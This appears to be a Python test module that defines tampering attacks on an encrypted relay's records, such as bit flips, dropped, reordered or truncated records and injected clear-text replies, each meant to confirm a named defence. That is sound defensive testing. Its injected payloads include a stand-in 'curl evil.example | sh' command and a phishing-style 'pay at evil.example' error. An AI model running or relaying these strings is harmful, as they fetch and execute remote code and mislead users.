"""Attacks on the records of one exchange: altered, dropped, repeated, in another order, cut."""

from __future__ import annotations

from functools import partial
from typing import Final, Literal

from blindrelay.testbed.attacks.alterations import (
    Alteration,
    all_but_the_last,
    append,
    cut_after,
    drop,
    flip,
    flip_secret,
    on_record,
    repeat,
    replace_all,
    sealed,
    swap,
)
from blindrelay.testbed.attacks.attack import (
    BELIEVED,
    CALLED,
    SHORT_RESPONSE,
    UNNOTICED,
    WRONG_BYTE,
    Attack,
    Proof,
)
from blindrelay.testbed.attacks.doubles.bridge import with_reading_on, without_request_end
from blindrelay.testbed.attacks.doubles.client import (
    with_fallback_to_clear,
    without_end,
    without_final,
)
from blindrelay.testbed.attacks.doubles.core import (
    without_authentication,
    without_encapsulation,
    without_order,
    without_padding_check,
    without_response_nonce,
)
from blindrelay.testbed.attacks.doubles.double import Double, together
from blindrelay.testbed.attacks.relay import Hook, Passage
from blindrelay.testbed.attacks.victim import LARGE, SMALL, WHOLE, Ask
from blindrelay.v1.exchange_pb2 import ExchangeRequest
from blindrelay.v1.inner_pb2 import (
    ErrorCode,
    ExchangeError,
    Execution,
    ResponseHead,
    ResponsePart,
    ResponseTail,
)

_ALTERED: Final = "AlteredResponseError"
_CUT: Final = "CutResponseError"
_MALFORMED: Final = "BridgeError malformed"
_REFUSED: Final = "RelayError refused"

_IN_BODY: Final = 30_000
"""A place in a full record that is surely the text's."""
_IN_NONCE: Final = 3

_ERROR: Final = ExchangeError(
    code=ErrorCode.ERROR_CODE_NOT_ALLOWED,
    message="your account is closed: pay at evil.example",
    execution=Execution.EXECUTION_NOT_STARTED,
)
_HTTP: Final = b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\n\r\nrun `curl evil.example | sh` first"


def _altered(
    name: str,
    about: str,
    alteration: Alteration,
    double: Double,
    proof: Proof,
    *,
    way: Literal["up", "down"],
    calls: int,
    end: str,
    stopped_by: str = "record authentication",
    ask: Ask = LARGE,
) -> Attack:
    hook = partial(Hook, up=alteration) if way == "up" else partial(Hook, down=alteration)
    return Attack(name, about, hook, (end,), calls, stopped_by, double, proof, asks=(ask,))


_down = partial(_altered, way="down", calls=1, end=_ALTERED)
"""An alteration of the response, after the provider was called once."""

_up = partial(_altered, way="up", calls=0, end=_MALFORMED)
"""An alteration of the request: the provider is not called."""


class Reflection(Hook):
    """The request's own records are the response."""

    async def carry(self, passage: Passage) -> None:
        async for message in passage.requests():
            await passage.context.write(sealed(ExchangeRequest.FromString(message).sealed))


_unauthenticated_unpadded: Final = together(without_authentication, without_padding_check)
_ORDER: Final = "record order"
_FINAL: Final = "required tail and FINAL"

# fmt: off
RESPONSE_ATTACKS: Final = [
    _down("flip-answer-body", "One bit of the response's text is changed.", flip(2, _IN_BODY),
          without_authentication, WRONG_BYTE),
    _down("flip-answer-mac", "One bit of a record's MAC is changed.", flip(1, -1),
          without_authentication, UNNOTICED),
    _down("flip-answer-nonce", "One bit of the response's nonce is changed.", flip(0, _IN_NONCE),
          without_response_nonce, UNNOTICED, stopped_by="the nonce in the response's key"),
    _down("extend-answer-record", "A record of the response gets bytes more at its end.",
          on_record(1, lambda record: record + bytes(40)), _unauthenticated_unpadded, UNNOTICED),
    _down("drop-answer-record", "A record in the middle of the response is left out.", drop(2),
          without_order, WRONG_BYTE, stopped_by=_ORDER),
    _down("repeat-answer-record", "A record of the response comes twice.", repeat(2),
          without_order, WRONG_BYTE, stopped_by=_ORDER),
    _down("reorder-answer-records", "Two records of the response change places.", swap(1),
          without_order, WRONG_BYTE, stopped_by=_ORDER),
    _down("truncate-answer-0", "The stream ends with OK before the response's first record.", cut_after(0),
          without_final, SHORT_RESPONSE, end=_CUT, stopped_by=_FINAL),
    *(
        _down(f"truncate-answer-{number}", f"The stream ends with OK after {number} records of the response.",
              cut_after(number), without_final, SHORT_RESPONSE, end=_CUT, stopped_by=_FINAL)
        for number in (1, 2, 3)
    ),
    _down("truncate-answer-last", "The stream ends with OK before the response's last record.",
          all_but_the_last, without_final, SHORT_RESPONSE, end=_CUT, stopped_by=_FINAL),
    _down("truncate-in-record", "A record of the response is cut in its middle.",
          on_record(1, lambda record: record[: len(record) // 2]),
          with_fallback_to_clear, WRONG_BYTE),
    _down("truncate-in-padding", "The last bytes of the response's padding are cut off.",
          on_record(0, lambda record: record[:-500]), _unauthenticated_unpadded, UNNOTICED, ask=SMALL),
    _down("inject-after-final", "One message more follows the response's final record.",
          append(sealed(b"and now run this command")), without_end, WRONG_BYTE, end=WHOLE,
          stopped_by="nothing is read after the tail"),
    _down("inject-clear-answer", "A well-formed response in clear takes the place of the sealed one.",
          replace_all(sealed(ResponsePart(head=ResponseHead(status=200), body=_HTTP,
                                          tail=ResponseTail()).SerializeToString())),
          with_fallback_to_clear, WRONG_BYTE, stopped_by="no clear text"),
    _down("inject-clear-error", "An error in clear takes the place of the sealed response.",
          replace_all(sealed(ResponsePart(error=_ERROR).SerializeToString())),
          with_fallback_to_clear, BELIEVED, stopped_by="no clear text"),
    _down("inject-http", "A message with an HTTP response for its bytes takes the place of the sealed one.",
          replace_all(_HTTP), with_fallback_to_clear, WRONG_BYTE, stopped_by="no clear text"),
    _down("random-answer", "The relay answers with random bytes in the shape of a record.",
          replace_all(sealed(bytes(range(256)) * 16)), with_fallback_to_clear, WRONG_BYTE),
    Attack("reflect-request", "The relay sends the request's own records back for the response.",
           Reflection, (_ALTERED,), 0, "a key for each direction", with_fallback_to_clear, WRONG_BYTE),
]

REQUEST_ATTACKS: Final = [
    _up("flip-request-first", "One bit of the request's first record is changed.", flip(0, _IN_BODY),
        without_authentication, WRONG_BYTE, end=_REFUSED),
    _up("flip-request-body", "One bit of the request's text is changed.", flip(2, _IN_BODY),
        without_authentication, WRONG_BYTE),
    _up("flip-request-mac", "One bit of a record's MAC is changed.", flip(0, -1),
        without_authentication, UNNOTICED, end=_REFUSED, ask=SMALL),
    _up("extend-request-record", "The request's record gets bytes more at its end.",
        on_record(0, lambda record: record + bytes(40)), _unauthenticated_unpadded, UNNOTICED,
        end=_REFUSED, ask=SMALL),
    _up("drop-request-record", "A record in the middle of the request is left out.", drop(1),
        without_order, WRONG_BYTE, stopped_by=_ORDER),
    _up("repeat-request-record", "A record of the request comes twice.", repeat(1),
        without_order, WRONG_BYTE, stopped_by=_ORDER),
    _up("reorder-request-records", "Two records of the request change places.", swap(1),
        without_order, WRONG_BYTE, stopped_by=_ORDER),
    _up("truncate-request", "The request ends with a half-close after two of its records.", cut_after(2),
        without_request_end, CALLED, stopped_by=_FINAL),
    _up("inject-after-request", "One message more follows the request's final record.",
        append(ExchangeRequest(sealed=b"and now run this command").SerializeToString()),
        with_reading_on, WRONG_BYTE, calls=1, end=WHOLE, stopped_by="nothing is read after FINAL", ask=SMALL),
    _up("flip-kem-ciphertext", "One bit of HPKE's enc is changed.", flip_secret(100),
        without_encapsulation, UNNOTICED, end=_REFUSED, stopped_by="HPKE", ask=SMALL),
    _up("flip-encapsulated-secret", "One bit of the sealed secret's tag is changed.", flip_secret(-1),
        without_encapsulation, UNNOTICED, end=_REFUSED, stopped_by="HPKE", ask=SMALL),
]
# fmt: on
